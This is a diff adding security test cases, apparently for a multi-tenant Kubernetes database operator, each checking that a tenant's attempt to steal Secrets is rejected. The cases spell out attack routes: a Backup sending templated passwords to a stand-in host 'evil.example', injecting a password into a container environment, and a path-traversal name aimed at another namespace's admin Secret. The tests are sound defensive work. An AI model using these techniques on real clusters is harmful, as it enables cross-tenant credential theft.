@@ -169,6 +169,45 @@ const secrets: readonly Attempt[] = [
     tolerated('A template knows the keys of its own Secret; any other is left as it is written.'),
   ),
   attempt(
+    'has a Backup send the Secret of his user to a store of his own as its keys',
+    async ({ tenant }, name) => {
+      const template = { accessKeyId: '{{password}}', secretAccessKey: '{{password}}' }
+      await tenant.create('dbu', name, { spec: { databases: own, secret: { template } } })
+      const s3 = { bucket: 'loot', endpoint: 'http://evil.example', credentialsSecretRef: { name: `${name}-db` } }
+      await tenant.create('bak', name, { spec: { databaseRef: { name: 'mine' }, target: { s3 } } })
+    },
+    condition('bak', 'Ready False SecretNotAllowed', /kubectl label secret/),
+  ),
+  attempt(
+    'reads the Secret of his user in the environment of a store',
+    async ({ tenant }, name) => {
+      await tenant.create('dbu', name, { spec: { databases: own } })
+      const valueFrom = { secretKeyRef: { name: `${name}-db`, key: 'password' } }
+      await tenant.create('kv', name, { spec: { image: 'valkey/valkey:8.0', env: [{ name: 'LOOT', valueFrom }] } })
+    },
+    condition('kv', 'Ready False SecretNotAllowed', /kubectl label secret/),
+  ),
+  attempt(
+    'has a Database read the Secret of his user as certificates',
+    async ({ tenant }, name) => {
+      await tenant.create('dbu', name, {
+        spec: { databases: own, secret: { template: { ca: '-----BEGIN CERTIFICATE-----{{uri}}' } } },
+      })
+      const server = { ...serverOf('server').server, caSecretRef: { name: `${name}-db`, key: 'ca' } }
+      await tenant.create('db', name, { spec: { provider: { server } } })
+    },
+    databaseIs('SecretNotAllowed', /kubectl label secret/),
+  ),
+  attempt(
+    'has templates of his Secret become larger than a Secret',
+    user({
+      secret: {
+        template: Object.fromEntries(Array.from({ length: 32 }, (_, at) => [`k${at}`, '{{jdbc-uri}}'.repeat(341)])),
+      },
+    }),
+    userIs('SecretTooLarge'),
+  ),
+  attempt(
     'connects by a Secret of the victim',
     creates('db', { provider: serverOf(`../../${victimNamespace}/secrets/postgres-admin`) }),
     databaseIs('BadRequest', noName),
